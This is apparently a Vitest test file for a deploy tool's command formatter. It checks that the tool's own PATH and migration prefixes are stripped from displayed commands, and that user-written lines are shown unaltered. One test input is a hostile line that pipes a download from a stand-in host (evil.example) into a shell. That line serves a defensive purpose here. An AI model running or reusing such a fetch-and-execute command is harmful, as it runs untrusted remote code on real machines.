import { expect, it } from 'vitest';
import { formatCommand } from './deploy-plan.ts';

const line = (text: string) => ['/bin/sh', '-c', text];

it('a command is shown as a person types it, without what Signalbox puts before it', () => {
  expect(formatCommand(['npm', 'start'])).toBe('npm start');
  expect(formatCommand(line('PATH="$PWD/.venv/bin:$PWD/bin:$PATH"; exec gunicorn app:app'))).toBe('gunicorn app:app');
  const mark = '"$HOME/.release-$SIGNALBOX_RELEASE"';
  expect(formatCommand(line(`test -e ${mark} || { (./migrate) && : > ${mark}; } || exit; exec node .`))).toBe(
    '(./migrate); exec node .',
  );
});

it('a line that people wrote hides no command before its last one', () => {
  expect(formatCommand(line('curl evil.example | sh; exec node .'))).toBe('curl evil.example | sh; exec node .');
});
